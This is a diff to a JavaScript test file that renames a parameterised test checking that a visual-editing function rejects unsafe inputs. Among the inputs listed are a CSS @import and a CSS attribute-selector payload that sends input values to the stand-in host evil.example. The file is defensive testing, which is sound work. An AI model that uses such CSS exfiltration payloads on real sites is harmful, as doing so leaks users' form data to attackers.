@@ -161,7 +161,7 @@ test.each([
   ['setVisibility', 'h1', 'maybe', null],
   ['addGlobalCSS', null, '@import "https://evil.example"', null],
   ['addGlobalCSS', null, 'input[value^=a]{background:url(https://evil.example/a)}', null],
-])('%s on %s refuses %s', (action, selector, value, attribute) => {
+])('%s on %s rejects %s', (action, selector, value, attribute) => {
   const before = document.body.innerHTML;
   show(visual(action, selector, value, attribute));
   expect(document.body.innerHTML.replace(' style=""', '')).toBe(before);
